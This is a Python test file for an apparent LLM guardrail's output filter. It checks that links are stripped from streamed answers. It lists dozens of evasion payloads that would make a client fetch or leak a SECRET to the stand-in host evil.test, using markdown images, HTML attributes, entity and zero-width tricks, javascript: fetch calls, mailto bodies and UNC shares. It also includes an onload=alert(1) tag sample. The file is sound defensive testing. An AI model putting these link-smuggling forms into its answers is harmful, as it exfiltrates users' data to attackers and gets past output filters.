"""The egress filter over whole texts, and over streams cut anywhere."""

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from benchmarks.attacks import fetched
from headwater.guardrails.guard import Guard
from headwater.guardrails.links import REMOVED, has_foreign_link, remove_links
from headwater.guardrails.policy import AnswerPolicy, GuardPolicy

EVERYTHING = GuardPolicy(
    answer=AnswerPolicy(
        links=True,
        allowed_hosts=("docs.example.org",),
        profanity=True,
        entities={"EMAIL_ADDRESS": 0.5, "PHONE_NUMBER": 0.4, "IBAN_CODE": 0.5},
    )
)

#: Each would make some client fetch from, or lead to, evil.test.
FOREIGN = {
    "bare": "http://evil.test/?q=SECRET",
    "upper case": "HTTPS://EVIL.TEST/",
    "no scheme": "www.evil.test/x",
    "no scheme, known suffix": "evil-site.com/x?SECRET",
    "known suffix alone": "SECRET.evil-site.com",
    "other scheme": "ftp://evil.test/x",
    "unknown scheme": "steam://run/SECRET",
    "scheme without slashes": "https:evil.test/x",
    "backslashes": "http:\\\\evil.test\\x",
    "image": "![x](http://evil.test/x.png)",
    "image with title": '![x](http://evil.test/x.png "title")',
    "link in angle brackets": "[x](<http://evil.test/a>)",
    "network path": "![x](//evil.test/x)",
    "network path with backslash": "![x](/\\evil.test/x)",
    "number for a host": "![x](//3232235777/SECRET)",
    "address for a host": "![x](//[::1]/SECRET)",
    "reference": "[a]: http://evil.test/x",
    "reference without a blank": "[a]://evil.test/x",
    "reference on the next line": "[a]:\n//evil.test/x",
    "autolink": "<http://evil.test/x>",
    "attribute": '<img src="http://evil.test/x">',
    "attribute without quotes": "<img src=//evil.test/x>",
    "attribute never closed": "<img src='http://evil.test/?",
    "style": '<b style="background:url(//evil.test/x)">',
    "entity": "![x](h&#116;tp&colon;//evil.test)",
    "entity in an entity": "![x](h&amp;#116;tp://evil.test)",
    "entities for slashes": "![x](&sol;&#x2f;evil.test/x)",
    "zero width": "ht\u200btp:/\u200d/evil.test",
    "soft hyphen": "ht\u00adtp://evil.test",
    "tag characters": "http\U000e0041://evil.test",
    "markdown escapes": "[x](http\\:\\/\\/evil.test)",
    "escaped network path": "[x](\\/\\/evil.test)",
    "full width": "\uff48\uff54\uff54\uff50://evil\uff0etest",
    "ideographic stop": "https://evil\u3002test",
    "user part": "https://docs.example.org@evil.test/",
    "user part with backslash": "https://docs.example.org\\@evil.test/",
    "lookalike end": "https://docs.example.org.evil.test/",
    "link behind an allowed one": 'https://docs.example.org/"http://evil.test/',
    "script": "[x](javascript:fetch('//evil.test'))",
    "data": "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "mail": "[x](mailto:a@evil.test?body=SECRET)",
    "scheme of an application": "[x](ms-word:ofe|u|SECRET)",
    "share": "\\\\evil.test\\share",
}


def stream(pieces: list[str]) -> str:
    return "".join(Guard(EVERYTHING).answer([]).apply(pieces))


@pytest.mark.parametrize("name", FOREIGN)
@pytest.mark.parametrize("around", ["{}", "See {} for more.", "a\n{}\nb", "**{}**", "({})"])
def test_no_foreign_address_leaves(name: str, around: str) -> None:
    said = stream([around.format(FOREIGN[name])])
    assert fetched(said, EVERYTHING.answer.allowed_hosts) == []
    assert not has_foreign_link(said, EVERYTHING.answer.allowed_hosts)
    assert REMOVED in said or "< " in said


def test_the_oracle_sees_what_the_filter_is_for() -> None:
    seen = {name for name, text in FOREIGN.items() if fetched(text)}
    assert {"image", "reference", "attribute", "entity", "style", "script"} <= seen
    assert len(seen) >= 20


@pytest.mark.parametrize(
    "text",
    [
        "See https://docs.example.org/3/library?x=1#y, or docs.example.org.",
        "[the docs](https://docs.example.org:443/3/)",
        "os.path.join(a, b) and a[0](b) and x.name/2 and d['k'](y=1)",
        "Use // for floor division: 7 // 2, x//y; `//=` too; '\\\\n' is a newline.",
        "<class 'int'> and <module> and <built-in function len> and <stdin>",
        "if a <b and c> d: pass; 1<2",
        "slice a[1:2], dict {'a': 1}, lambda x: y, C:\\Users and C:/Users/x.y",
        "See PEP 8: it says so. e.g. this, i.e. that... and 3.11.2",
        "a ratio of 3:1, at 10:30, key:value and std::vector<int>",
        "text with \u00fcml\u00e4uts, 中文 and \U0001f469\u200d\U0001f467",
        "<b>bold</b> and <code>x</code>",
    ],
)
def test_ordinary_text_passes_unchanged(text: str) -> None:
    assert stream([text]) == text


@pytest.mark.parametrize("tag", ["script", "svg", "iframe", "style", "textarea"])
def test_live_html_becomes_text(tag: str) -> None:
    said = stream([f"<{tag}>x</{tag}> <{tag.upper()} onload=alert(1)>"])
    assert said == f"< {tag}>x< /{tag}> < {tag.upper()} onload=alert(1)>"


def test_a_shortened_text_still_reads_well() -> None:
    assert remove_links("see http://evil.test/x.", ())[0] == f"see {REMOVED}."


_FRAGMENTS = st.sampled_from(
    [*FOREIGN.values(), "http", ":", "/", "//", "evil.test", "\\", "<", ">", "img src=", "](", ")",
     "[a]:", "&#58;", "&sol;", "\u200b", "www.", ".com", " ", "\n", "x", "7", "555 0187", "+49 170",
     "a@b.org", "DE89 3704 0044", "0532 0130 00", "WEST", "shit", "<class 'int'>", "@", "'", '"',
     "https://docs.example.org/x"]
)  # fmt: skip
TEXTS = st.lists(_FRAGMENTS | st.text(max_size=3), max_size=12).map("".join)


@settings(max_examples=300, deadline=None)
@given(text=TEXTS, data=st.data())
def test_the_pieces_of_a_stream_do_not_matter(text: str, data: st.DataObject) -> None:
    whole = stream([text])
    cuts = sorted(data.draw(st.lists(st.integers(0, len(text)), max_size=8)))
    pieces = [text[a:b] for a, b in zip([0, *cuts], [*cuts, len(text)], strict=True)]
    assert stream(pieces) == whole
    assert stream(list(text)) == whole


@settings(max_examples=300, deadline=None)
@example(text="shit\\\\evil.test\\share")  # what a censored word leaves behind began a path
@given(text=TEXTS)
def test_whatever_is_put_together_no_foreign_address_leaves(text: str) -> None:
    said = stream([text])
    assert fetched(said, EVERYTHING.answer.allowed_hosts) == []
    assert not has_foreign_link(said, EVERYTHING.answer.allowed_hosts)
    for opened in ("<img", "<script", "<a "):
        assert opened not in said.casefold()
